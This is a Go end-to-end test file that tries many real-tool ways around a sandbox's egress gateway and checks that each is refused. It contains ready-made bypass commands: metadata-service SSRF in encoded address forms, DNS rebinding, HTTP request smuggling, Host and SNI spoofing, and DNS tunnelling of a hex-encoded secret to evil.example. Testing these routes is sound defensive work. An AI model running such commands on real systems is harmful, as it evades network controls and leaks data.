package e2e

// A way is a way round the gateway, tried with a real tool.
type way struct {
	name string
	prog string // the tool; "" when sh is enough
	sh   string
	// barred: it fails on an ordinary host, too (a raw socket of an ordinary user, for example),
	// so only the cell is tested.
	barred bool
	// silent: nothing of it reaches the gateway, so there is no denial.
	silent bool
}

// The world of the attempts: allowed.example is at 192.0.2.7 and may be
// reached; the rest is not. local., lan., meta. and rebind.example are names
// that the policy allows, and that lead where only an address may be named.
var ways = []way{
	// By name, by address, by what a client can be told instead.
	{name: "curl: another host", prog: "curl", sh: `curl -sk https://evil.example/`},
	{name: "curl: another host, plain", prog: "curl", sh: `curl -s http://evil.example/`},
	{name: "curl: another port of the host", prog: "curl", sh: `curl -s http://allowed.example:8080/`},
	{name: "curl: by address", prog: "curl", sh: `curl -sk https://192.0.2.8/`},
	{name: "curl: by the allowed host's own address", prog: "curl", sh: `curl -sk https://192.0.2.7/`},
	{name: "curl: IPv6", prog: "curl", sh: `curl -sgk 'https://[2001:db8::8]/'`},
	{name: "curl: IPv4-mapped", prog: "curl", sh: `curl -sg 'http://[::ffff:192.0.2.8]/'`},
	{name: "curl: decimal", prog: "curl", sh: `curl -s http://3221225992/`},
	{name: "curl --resolve another", prog: "curl", sh: `curl -sk --resolve evil.example:443:192.0.2.8 https://evil.example/`},
	{name: "curl --resolve the allowed elsewhere", prog: "curl", sh: `curl -sk --resolve allowed.example:443:192.0.2.8 https://allowed.example/`},
	{name: "curl --connect-to: another SNI", prog: "curl", sh: `curl -sk --connect-to evil.example:443:allowed.example:443 https://evil.example/`},
	{name: "curl: Host of another, plain", prog: "curl", sh: `curl -s -H 'Host: evil.example' http://allowed.example/`},
	{name: "curl: Host of another, opened", prog: "curl", sh: `curl -sk -H 'Host: evil.example' https://opened.example/open/x`},
	{name: "curl: Host of another, opened, HTTP/1.1", prog: "curl", sh: `curl -sk --http1.1 -H 'Host: evil.example' https://opened.example/open/x`},
	{name: "curl: Host of another, HTTP/2 without TLS", prog: "curl", sh: `curl -s --http2-prior-knowledge -H 'Host: evil.example' http://allowed.example/`},
	{name: "curl: Host of another, upgraded", prog: "curl", sh: `curl -s --http2 -H 'Host: evil.example' http://allowed.example/`},
	{name: "wget: another host", prog: "wget", sh: `wget -q -T 3 -t 1 --no-check-certificate -O - https://evil.example/`},
	{name: "curl: a method that no rule has", prog: "curl", sh: `curl -sk -X POST -d x https://opened.example/`},
	{name: "curl: a path that no rule has", prog: "curl", sh: `curl -sk https://opened.example/other/x`},
	{name: "curl: a path behind dots", prog: "curl", sh: `curl -sk --path-as-is https://opened.example/open/../other/x`},
	{name: "curl: a path behind encoded dots", prog: "curl", sh: `curl -sk --path-as-is https://opened.example/open/%2e%2e/other/x`},
	{name: "curl: a proxy", prog: "curl", sh: `curl -s -x http://192.0.2.8:8080 http://allowed.example/`},
	{name: "curl: a proxy of the environment", prog: "curl", sh: `http_proxy=http://evil.example:80 curl -s http://allowed.example/`},
	{name: "curl: CONNECT through the host", prog: "curl", sh: `curl -s -p -x http://allowed.example:80 http://evil.example/`},
	{name: "curl: the host as a proxy", prog: "curl", sh: `curl -s -x http://allowed.example:80 http://evil.example/`},
	{name: "curl: DNS over HTTPS", prog: "curl", sh: `curl -sk 'https://8.8.8.8/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB'`},
	{name: "curl: a name that leads to loopback", prog: "curl", sh: `curl -s http://local.example/`},
	{name: "curl: a name that leads to the LAN", prog: "curl", sh: `curl -s http://lan.example/`},
	{name: "curl: a name that leads to the metadata", prog: "curl", sh: `curl -s http://meta.example/`},
	{name: "curl: a name that leads to the metadata, IPv6", prog: "curl", sh: `curl -s -6 http://meta.example/`},
	{name: "curl: the names of a DNS rebinding", prog: "curl", sh: `for i in 1 2 3; do curl -s http://rebind.example/; sleep 1.1; done; curl -s http://rebind2.example/`},
	{name: "curl: metadata", prog: "curl", sh: `curl -s http://169.254.169.254/latest/meta-data/`},
	{name: "curl: metadata, decimal", prog: "curl", sh: `curl -s http://2852039166/`},
	{name: "curl: metadata, hexadecimal", prog: "curl", sh: `curl -s http://0xa9fea9fe/`},
	{name: "curl: metadata, octal", prog: "curl", sh: `curl -s http://0251.0376.0251.0376/`},
	{name: "curl: metadata, IPv4-mapped", prog: "curl", sh: `curl -sg 'http://[::ffff:a9fe:a9fe]/'`},
	{name: "curl: metadata, NAT64", prog: "curl", sh: `curl -sg 'http://[64:ff9b::a9fe:a9fe]/'`},
	{name: "curl: metadata, IPv6", prog: "curl", sh: `curl -sg 'http://[fd00:ec2::254]/'`},
	{name: "curl: the host's loopback", prog: "curl", sh: `curl -s http://127.0.0.1/`, silent: true},
	{name: "curl: the host's loopback, another of it", prog: "curl", sh: `curl -s http://127.1.2.3:8080/`, silent: true},
	{name: "curl: the host's loopback, IPv6", prog: "curl", sh: `curl -sg 'http://[::1]/'`, silent: true},
	{name: "curl: the host's loopback, IPv4-mapped", prog: "curl", sh: `curl -sg 'http://[::ffff:127.0.0.1]/'`, silent: true},
	{name: "curl: the address of nobody", prog: "curl", sh: `curl -s http://0.0.0.0/`, silent: true},
	{name: "curl: localhost", prog: "curl", sh: `curl -s http://localhost/`, silent: true},
	{name: "curl: the gateway", prog: "curl", sh: `curl -s http://198.18.0.1/`},
	{name: "curl: the gateway, IPv6", prog: "curl", sh: `curl -sg 'http://[fd70:616e:646f::1]/'`},
	{name: "curl: the host's address", prog: "curl", sh: `curl -s http://192.168.7.7/`},
	{name: "curl: a neighbour", prog: "curl", sh: `curl -s http://10.9.8.7/`},
	{name: "curl: carrier-grade", prog: "curl", sh: `curl -s http://100.64.0.9/`},

	// TLS that is not what it seems.
	{name: "openssl: no SNI", prog: "openssl", sh: `printf 'GET / HTTP/1.0\r\nHost: evil.example\r\n\r\n' | openssl s_client -quiet -noservername -connect allowed.example:443`},
	{name: "openssl: another SNI", prog: "openssl", sh: `printf 'GET / HTTP/1.0\r\nHost: evil.example\r\n\r\n' | openssl s_client -quiet -servername evil.example -connect allowed.example:443`},
	{name: "openssl: TLS where HTTP belongs", prog: "openssl", sh: `printf 'x\n' | openssl s_client -quiet -servername allowed.example -connect allowed.example:80`},
	{name: "nc: HTTP where TLS belongs", prog: "nc", sh: `printf 'GET / HTTP/1.0\r\nHost: allowed.example\r\n\r\n' | nc -w 1 allowed.example 443`},
	{name: "nc: anything where TLS belongs", prog: "nc", sh: `printf 'SSH-2.0-x\r\n' | nc -w 1 allowed.example 443`},

	// HTTP that two readers read differently.
	{name: "nc: absolute form of another host", prog: "nc", sh: `printf 'GET http://evil.example/ HTTP/1.1\r\nHost: allowed.example\r\nConnection: close\r\n\r\n' | nc -w 1 allowed.example 80`},
	{name: "nc: two hosts", prog: "nc", sh: `printf 'GET / HTTP/1.1\r\nHost: allowed.example\r\nHost: evil.example\r\nConnection: close\r\n\r\n' | nc -w 1 allowed.example 80`, silent: true},
	{name: "nc: another host in the second request", prog: "nc", sh: `printf 'GET / HTTP/1.1\r\nHost: allowed.example\r\n\r\nGET / HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n' | nc -w 1 allowed.example 80`},
	{name: "nc: two lengths", prog: "nc", sh: `printf 'POST / HTTP/1.1\r\nHost: allowed.example\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n' | nc -w 1 allowed.example 80`},
	{name: "nc: a length behind a space", prog: "nc", sh: `printf 'POST / HTTP/1.1\r\nHost: allowed.example\r\nContent-Length : 0\r\nTransfer-Encoding : chunked\r\n\r\nGET / HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n' | nc -w 1 allowed.example 80`, barred: true, silent: true},
	{name: "nc: a folded header", prog: "nc", sh: `printf 'GET / HTTP/1.1\r\nHost: allowed.example\r\nX: a\r\n Host: evil.example\r\nConnection: close\r\n\r\n' | nc -w 1 allowed.example 80`, barred: true, silent: true},
	{name: "nc: CONNECT", prog: "nc", sh: `printf 'CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n' | nc -w 1 allowed.example 80`},
	{name: "nc: HTTP/0.9", prog: "nc", sh: `printf 'GET http://evil.example/\r\n\r\n' | nc -w 1 allowed.example 80`, barred: true},
	{name: "nc: another port, raw", prog: "nc", sh: `nc -w 1 192.0.2.8 5432 </dev/null`},
	{name: "nc: another port of the host, raw", prog: "nc", sh: `nc -w 1 allowed.example 5432 </dev/null`},
	{name: "nc: UDP", prog: "nc", sh: `echo out | nc -u -w 1 192.0.2.8 9999`},
	{name: "nc: UDP to the allowed host", prog: "nc", sh: `echo out | nc -u -w 1 allowed.example 443`},

	// DNS.
	{name: "dig: another name", prog: "dig", sh: `dig +tries=1 +time=2 +short evil.example | grep 192`},
	{name: "dig: another server", prog: "dig", sh: `dig +tries=1 +time=2 +short @8.8.8.8 allowed.example | grep 192`},
	{name: "dig: another server by TCP", prog: "dig", sh: `dig +tcp +tries=1 +time=2 +short @8.8.8.8 evil.example | grep 192`},
	{name: "dig: another server, IPv6", prog: "dig", sh: `dig +tries=1 +time=2 +short @2001:db8::8 evil.example | grep 192`},
	{name: "dig: a tunnel in names", prog: "dig", sh: `for i in 1 2 3; do dig +tries=1 +time=2 $(head -c 24 /dev/urandom | od -An -tx1 | tr -d ' \n').tunnel.evil.example; done | grep 'status: NOERROR'`},
	{name: "dig: a tunnel in TXT", prog: "dig", sh: `dig +tries=1 +time=2 TXT 6d7920736563726574.evil.example | grep 'status: N'`},
	{name: "dig: TXT of an allowed name", prog: "dig", sh: `dig +tries=1 +time=2 NULL allowed.example | grep 'status: NOERROR'`, silent: true},
	{name: "dig: a long label under a pattern", prog: "dig", sh: `dig +tries=1 +time=2 +short $(head -c 30 /dev/urandom | od -An -tx1 | tr -d ' \n').wild.example | grep 192`},
	{name: "dig: a transfer", prog: "dig", sh: `dig +tries=1 +time=2 AXFR evil.example | grep 192`, barred: true},
	{name: "dig: ANY", prog: "dig", sh: `dig +tries=1 +time=2 ANY evil.example | grep 'status: NOERROR'`},
	{name: "dig: of a class of its own", prog: "dig", sh: `dig +tries=1 +time=2 -c CH TXT version.bind | grep 'status: NOERROR'`, barred: true},
	{name: "dig: an address's name", prog: "dig", sh: `dig +tries=1 +time=2 -x 192.0.2.8 | grep 'status: NOERROR'`, barred: true},
	{name: "getent", prog: "getent", sh: `getent hosts evil.example`},

	// Interpreters.
	{name: "python: connect", prog: "python3", sh: `python3 -c '
import socket
s = socket.create_connection(("192.0.2.8", 22), 3); print(s.recv(64))'`},
	{name: "python: connect, IPv6", prog: "python3", sh: `python3 -c '
import socket
s = socket.create_connection(("2001:db8::8", 22), 3); print(s.recv(64))'`},
	{name: "python: UDP", prog: "python3", sh: `python3 -c '
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.sendto(b"out", ("192.0.2.8", 123)); print(s.recv(64))'`},
	{name: "python: QUIC's port", prog: "python3", sh: `python3 -c '
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
a = socket.getaddrinfo("allowed.example", 443, socket.AF_INET)[0][4]
s.sendto(bytes([0xc3,0,0,0,1]) + bytes(1200), a); print(s.recv(64))'`},
	{name: "python: UDP to everybody", prog: "python3", sh: `python3 -c '
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1); s.sendto(b"out", ("255.255.255.255", 9999)); print(s.recv(64))'`, barred: true, silent: true},
	{name: "python: multicast", prog: "python3", sh: `python3 -c '
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1); s.sendto(b"out", ("224.0.0.251", 5353)); print(s.recv(64))'`, barred: true, silent: true},
	{name: "python: a raw socket", prog: "python3", sh: `python3 -c '
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW); print("you were never here")'`, barred: true, silent: true},
	{name: "python: a packet socket", prog: "python3", sh: `python3 -c '
import socket
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3); print("you were never here")'`, barred: true, silent: true},
	{name: "python: another protocol", prog: "python3", sh: `python3 -c '
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132); s.settimeout(2); s.connect(("192.0.2.8", 22)); print("you were never here")'`, barred: true, silent: true},
	{name: "python: a transparent socket", prog: "python3", sh: `python3 -c '
import socket
s = socket.socket(); s.setsockopt(socket.SOL_IP, 19, 1); print("you were never here")'`, barred: true, silent: true},
	{name: "python: bound to no interface", prog: "python3", sh: `python3 -c '
import socket
s = socket.socket(); s.settimeout(2); s.setsockopt(socket.SOL_SOCKET, 25, b"lo\0"); s.connect(("192.0.2.8", 22)); print(s.recv(64))'`, silent: true},
	{name: "python: a source of another", prog: "python3", sh: `python3 -c '
import socket
s = socket.socket(); s.settimeout(2); s.bind(("127.0.0.1", 0)); s.connect(("192.0.2.8", 22)); print(s.recv(64))'`, silent: true},
	{name: "python: source routes", prog: "python3", sh: `python3 -c '
import socket
s = socket.socket(); s.settimeout(2); s.setsockopt(socket.SOL_IP, 4, bytes([0x89,7,4,192,0,2,8,0])); a = socket.getaddrinfo("allowed.example", 22, socket.AF_INET)[0][4]
s.connect(a); print(s.recv(64))'`, barred: true, silent: true},
	{name: "python: urgent and fast open", prog: "python3", sh: `python3 -c '
import socket
s = socket.socket(); s.settimeout(2)
try: s.sendto(b"GET / HTTP/1.0\r\n\r\n", 0x20000000, ("192.0.2.8", 80))
except BlockingIOError: pass  # on its way: who ends now may end before anybody has seen it
print(s.recv(64))'`},
	{name: "python: abstract sockets of the host", prog: "python3", sh: `python3 -c '
import socket
s = socket.socket(socket.AF_UNIX); s.connect("\0pando-e2e-witness"); print(s.recv(64))'`, silent: true},
	{name: "python: vsock", prog: "python3", sh: `python3 -c '
import socket
s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM); s.settimeout(2); s.connect((2, 22)); print("you were never here")'`, barred: true, silent: true},
	{name: "python: routes of its own", prog: "python3", sh: `python3 -c '
import socket, struct
s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
m = struct.pack("=IHHIIBBBBI", 24, 17, 5, 1, 0, 2, 0, 0, 0, 0)
m = struct.pack("=IHHII", 28, 25, 5, 1, 0) + struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 254, 3, 0, 1, 0)
s.send(m); r = s.recv(4096); e = struct.unpack("=i", r[16:20])[0]
print("you were never here" if e == 0 else e)'`, barred: true, silent: true},
	{name: "node: connect", prog: "node", sh: `node -e '
require("net").connect(22, "192.0.2.8").on("data", d => { console.log(String(d)); process.exit() }).on("error", e => { console.log(e.code); process.exit(1) })'`},
	{name: "node: fetch", prog: "node", sh: `node -e 'fetch("http://evil.example/").then(r => r.text()).then(console.log, e => { console.log(e.cause && e.cause.code); process.exit(1) })'`},
	{name: "node: its own DNS", prog: "node", sh: `node -e '
const { Resolver } = require("dns"); const r = new Resolver({ timeout: 1500, tries: 1 }); r.setServers(["8.8.8.8"]);
r.resolve4("evil.example", (e, a) => { console.log(e ? e.code : a); process.exit(e ? 1 : 0) })'`},
	{name: "node: UDP", prog: "node", sh: `node -e '
const s = require("dgram").createSocket("udp4"); s.on("message", m => { console.log(String(m)); process.exit() }); s.on("error", e => process.exit(1)); s.connect(9999, "192.0.2.8", () => s.send("out")); setTimeout(() => process.exit(1), 1500)'`},
	{name: "go: connect and look up", prog: "go", sh: `./goprobe`},

	// Programs that have protocols of their own.
	{name: "git: https", prog: "git", sh: `GIT_SSL_NO_VERIFY=1 git ls-remote https://evil.example/x`},
	{name: "git: its own protocol", prog: "git", sh: `git ls-remote git://evil.example/x`},
	{name: "git: its own protocol, by address", prog: "git", sh: `git ls-remote git://192.0.2.8/x`},
	{name: "git: ssh", prog: "ssh", sh: `GIT_SSH_COMMAND='ssh -o StrictHostKeyChecking=no -o ConnectTimeout=3' git ls-remote git@192.0.2.8:x`},
	{name: "ssh", prog: "ssh", sh: `ssh -o StrictHostKeyChecking=no -o BatchMode=yes -o ConnectTimeout=3 evil.example true`},
	{name: "ssh: to the allowed host", prog: "ssh", sh: `ssh -o StrictHostKeyChecking=no -o BatchMode=yes -o ConnectTimeout=3 allowed.example true`},
	{name: "ssh: on the port for TLS", prog: "ssh", sh: `ssh -p 443 -o StrictHostKeyChecking=no -o BatchMode=yes -o ConnectTimeout=3 allowed.example true`},
	{name: "ping", prog: "ping", sh: `ping -c 1 -W 2 192.0.2.8 && echo you were never here`, barred: true, silent: true},
	{name: "ping: the allowed host", prog: "ping", sh: `ping -c 1 -W 2 192.0.2.7 && echo you were never here`, barred: true, silent: true},
	{name: "ping: the metadata, IPv6", prog: "ping", sh: `ping -6 -c 1 -W 2 fd00:ec2::254 && echo you were never here`, barred: true, silent: true},
}

// through are the same tools on the way that is open: what they are refused
// above is not refused because they don't work here. Those without -k trust the
// cell's own authority, which they find in the usual places.
var through = []way{
	{name: "curl", prog: "curl", sh: `curl -sSk https://allowed.example/`},
	{name: "curl: IPv6", prog: "curl", sh: `curl -sSk -6 https://allowed.example/`},
	{name: "curl: HTTP/1.1", prog: "curl", sh: `curl -sSk --http1.1 https://allowed.example/`},
	{name: "curl: plain", prog: "curl", sh: `curl -sS http://allowed.example/`},
	{name: "curl: plain HTTP/2", prog: "curl", sh: `curl -sS --http2-prior-knowledge http://allowed.example/`},
	{name: "curl: opened", prog: "curl", sh: `curl -sS https://opened.example/open/x`},
	{name: "curl: opened, HTTP/1.1", prog: "curl", sh: `curl -sS --http1.1 https://opened.example/open/x`},
	{name: "wget: opened", prog: "wget", sh: `wget -q -O - https://opened.example/open/x`},
	{name: "openssl: opened", prog: "openssl", sh: `printf 'GET /open/x HTTP/1.0\r\nHost: opened.example\r\n\r\n' | openssl s_client -quiet -verify_return_error -servername opened.example -connect opened.example:443`},
	{name: "python: opened", prog: "python3", sh: `python3 -c '
import urllib.request
print(urllib.request.urlopen("https://opened.example/open/x").read())'`},
	{name: "node: opened", prog: "node", sh: `node -e 'fetch("https://opened.example/open/x").then(r => r.text()).then(console.log)'`},
	{name: "go: opened", prog: "go", sh: wayEnv + `=through ./goprobe`},
	{name: "git: opened", prog: "git", sh: `git -c http.proxy= clone -q https://opened.example/open/repo.git /tmp/repo && cat /tmp/repo/greeting`},
	{name: "nc: plain", prog: "nc", sh: `printf 'GET / HTTP/1.1\r\nHost: allowed.example\r\nConnection: close\r\n\r\n' | nc -w 1 allowed.example 80`},
	{name: "dig", prog: "dig", sh: `dig +short allowed.example | grep -q '^198.1[89]' && echo welcome`},
	{name: "dig: by TCP", prog: "dig", sh: `dig +short +tcp AAAA allowed.example | grep -q '^fd70:616e:' && echo welcome`},
	{name: "getent", prog: "getent", sh: `getent hosts allowed.example | grep -q . && echo welcome`},
}
